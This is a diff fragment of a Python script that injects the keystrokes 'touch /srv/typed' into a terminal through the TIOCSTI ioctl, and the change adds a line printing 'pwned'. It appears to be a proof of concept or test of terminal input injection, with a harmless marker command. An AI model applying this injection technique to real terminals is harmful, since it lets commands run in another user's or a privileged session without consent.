@@ -33,6 +33,7 @@ import fcntl, os, sys, termios
 for place in ("/dev/tty", "/dev/fd/0", "/dev/fd/1", "/dev/fd/2"):
     try:
         terminal = os.open(place, os.O_RDWR)
+        os.write(terminal, b"pwned")
         for letter in "touch /srv/typed\\n":
             fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
     except OSError:
